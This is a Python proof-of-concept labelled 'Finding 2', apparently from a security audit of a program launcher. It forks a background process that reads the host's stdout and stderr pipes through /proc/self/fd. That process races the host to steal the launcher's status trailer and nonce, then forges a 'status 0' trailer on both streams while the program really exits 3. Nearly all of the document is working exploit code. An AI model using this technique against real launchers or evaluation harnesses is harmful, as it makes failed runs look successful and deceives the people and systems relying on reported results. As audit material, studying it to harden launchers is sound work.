# Finding 2: the trailer travels in pipes the program holds. A background process opens
# /proc/self/fd/1 and /proc/self/fd/2 read-only (the pipes' read ends) and reads stdout without
# pause, so it takes what the launcher writes there before the host does; the first trailer
# seen is answered with trailers of its own nonce, status 0, on both streams. The program pins
# PID 1 to CPU 0 (the thief runs on another), writes look-alikes in other plausible shapes,
# then exits 3.
cpus = os.cpu_count() or 1
ok("cpus", cpus)
attempt("sched_setaffinity(1, {cpu0})", os.sched_setaffinity, 1, {0})
for shape in ["\x01DM:0\n", "\x01DM:" + "0" * 32 + ":0\n", "\x01DM:0:0\n", "\x01DM:status=0\n", "\x01DM:0:" + "0" * 64 + "\n"]:
    os.write(1, shape.encode())
    os.write(2, shape.encode())
settle()


def thief(cpu, ready):
    rd = [attempt(f"open(/proc/self/fd/{s}, O_RDONLY|O_NONBLOCK)", os.open, f"/proc/self/fd/{s}", os.O_RDONLY | os.O_NONBLOCK) for s in (1, 2)]
    out, err = rd
    os.sched_setaffinity(0, {cpu})
    hex32 = re.compile(rb"[0-9a-f]{32}").fullmatch  # compiled ahead: no time to lose later
    os.write(ready, b"y")
    os.close(ready)
    read, write, zeros = os.read, os.write, b"0" * 32
    while out is not None:
        # The tight loop reads stdout only (the launcher writes its trailer there first), a
        # little at a time: a large read would cost an allocation per turn.
        try:
            data = read(out, 256)
        except BlockingIOError:
            continue
        i = data.find(b"\x01DM:")
        nonce = data[i + 4:i + 36]
        if i >= 0 and hex32(nonce) and nonce != zeros:
            t = b"\x01DM:" + nonce + b":0\n"
            write(1, t)
            write(2, t)
            break
    # Then take whatever else comes, on both streams.
    while out is not None:
        for fd in rd:
            try:
                os.read(fd, 65536)
            except (BlockingIOError, TypeError):
                pass


ready_r, ready_w = os.pipe()
if os.fork() == 0:
    os.close(ready_r)
    thief(1 % cpus, ready_w)
    os._exit(0)
os.close(ready_w)
os.read(ready_r, 1)
sys.exit(3)
